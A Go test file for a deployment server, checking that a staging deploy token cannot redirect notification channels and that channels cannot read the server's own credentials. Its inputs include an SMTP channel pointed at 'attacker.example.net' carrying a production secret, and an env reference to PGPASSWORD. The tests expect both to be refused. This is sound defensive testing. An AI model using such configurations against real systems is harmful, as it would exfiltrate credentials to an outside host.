package app

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/phoenixvc/phoenix/internal/api"
	"github.com/phoenixvc/phoenix/internal/auth"
	"github.com/phoenixvc/phoenix/internal/config"
	"github.com/phoenixvc/phoenix/internal/pipeline"
	"github.com/phoenixvc/phoenix/internal/projectcfg"
)

// channelsYAML is shop's phoenix.yaml with an email channel whose
// password is a vault secret, sent to host.
func channelsYAML(host string) string {
	return "project: {name: shop}\nenvironments: {staging: {}, production: {}}\n" +
		"notifications:\n  channels:\n    mail: {type: email, to: [ops@example.com], smtp: {host: " + host +
		", from: p@example.com, username: u, password: secret:PROD_DB_PASSWORD}}\n" +
		"pipeline:\n  stages:\n    - name: stage\n      environment: staging\n      steps: [{name: ok, run: \"true\"}]\n"
}

// TestAStagingTokenCannotRedirectTheChannels: the notification channels
// read their secret: references as production, so a deploy token for
// staging that changes them (with 'phoenix deploy' or in a release's
// phoenix.yaml) could send a production secret (here an SMTP password)
// to a server of its choosing. It is refused, naming the channels and the
// environment it lacks; handing over the same channels still works.
func TestAStagingTokenCannotRedirectTheChannels(t *testing.T) {
	t.Parallel()
	a := startOpts(t, Options{DataDir: t.TempDir(), Proc: "-"})
	ctx := context.Background()
	admin, err := ReadToken(a.opts.DataDir)
	if err != nil {
		t.Fatal(err)
	}
	if code, body := putConfigAs(t, a, admin, channelsYAML("mail.example.com")); code != 200 {
		t.Fatalf("the admin's hand-over: %d %s", code, body)
	}
	_, staging, err := a.Auth.CreateToken(ctx, adminPrincipal(t, a, a.opts.DataDir),
		auth.TokenRequest{Name: "ci", Kind: auth.KindDeploy, Project: "shop", Environment: "staging"})
	if err != nil {
		t.Fatal(err)
	}
	if code, body := putConfigAs(t, a, staging, channelsYAML("mail.example.com")); code != 200 {
		t.Fatalf("the same channels from the staging token: %d %s", code, body)
	}
	want := "changes notifications.channels of project shop"
	if code, body := putConfigAs(t, a, staging, channelsYAML("attacker.example.net")); code != 403 ||
		!strings.Contains(body, want) || !strings.Contains(body, "production") {
		t.Errorf("other channels from the staging token: %d %s", code, body)
	}
	dir := filepath.Join(t.TempDir(), "shop")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "phoenix.yaml"), []byte(channelsYAML("attacker.example.net")), 0o644); err != nil {
		t.Fatal(err)
	}
	req, _ := json.Marshal(api.ReleaseRequest{Dir: dir, Version: "v1.0.0", Environments: []string{"staging"}})
	if code, body := apiSendAs(t, a, staging, "POST", "/api/v1/releases", string(req)); code != 403 || !strings.Contains(body, want) {
		t.Errorf("a release with other channels from the staging token: %d %s", code, body)
	}
	if e, err := a.Configs.Get(ctx, "shop"); err != nil || e == nil || !strings.Contains(string(e.YAML), "mail.example.com") {
		t.Fatalf("stored config after the refusals: %+v, %v", e, err)
	}
	if code, body := apiSendAs(t, a, admin, "POST", "/api/v1/releases", string(req)); code != 201 {
		t.Errorf("the admin's release with other channels: %d %s", code, body)
	}
}

// TestChannelsCannotReadTheServersCredentials: a channel's env:NAME may
// not name one of the server's own credentials (PGPASSWORD, the database
// URL, the master key...), which steps never inherit either: whoever may
// change the channels would receive it. Refused at hand-over, even to an
// admin, naming the field.
func TestChannelsCannotReadTheServersCredentials(t *testing.T) {
	t.Setenv("PGPASSWORD", "db-password-4f1c")
	a := startOpts(t, Options{DataDir: t.TempDir(), Proc: "-"})
	admin, err := ReadToken(a.opts.DataDir)
	if err != nil {
		t.Fatal(err)
	}
	yaml := strings.Replace(channelsYAML("mail.example.com"), "secret:PROD_DB_PASSWORD", "env:PGPASSWORD", 1)
	code, body := putConfigAs(t, a, admin, yaml)
	if code != 400 || !strings.Contains(body, "notifications.channels.mail.smtp.password: env:PGPASSWORD is the server's own credential") ||
		strings.Contains(body, "db-password-4f1c") {
		t.Errorf("a channel reading PGPASSWORD: %d %s", code, body)
	}
	yaml = strings.Replace(channelsYAML("mail.example.com"), "secret:PROD_DB_PASSWORD", "env:SMTP_PASSWORD_OF_THE_TEAM", 1)
	if code, body := putConfigAs(t, a, admin, yaml); code != 200 {
		t.Errorf("a channel reading another variable: %d %s", code, body)
	}
}

// TestTheStoredReleaseFileIsTheOneChecked: what a release stores as its
// project's phoenix.yaml is the file the release read and the API checked
// (the channels a staging token may hand over), not the file as it is
// when the run is accepted: rewritten in between, it would put channels
// nobody checked in effect at the next start.
func TestTheStoredReleaseFileIsTheOneChecked(t *testing.T) {
	t.Parallel()
	a := startOpts(t, Options{DataDir: t.TempDir(), Proc: "-"})
	dir := t.TempDir()
	file := filepath.Join(dir, "phoenix.yaml")
	if err := os.WriteFile(file, []byte(channelsYAML("mail.example.com")), 0o644); err != nil {
		t.Fatal(err)
	}
	cfg, err := config.Load(file)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(file, []byte(channelsYAML("attacker.example.net")), 0o644); err != nil {
		t.Fatal(err)
	}
	a.releaseConfig(&pipeline.Run{ID: 1, Project: "shop", Version: "v1.0.0", Dir: dir, Actor: "ci"}, cfg)
	e, err := a.Configs.Get(context.Background(), "shop")
	if err != nil || e == nil || !strings.Contains(string(e.YAML), "mail.example.com") || strings.Contains(string(e.YAML), "attacker") {
		t.Fatalf("stored: %v; want the file as checked\n%s", err, yamlOf(e))
	}
}

func yamlOf(e *projectcfg.Entry) string {
	if e == nil {
		return "(none)"
	}
	return string(e.YAML)
}
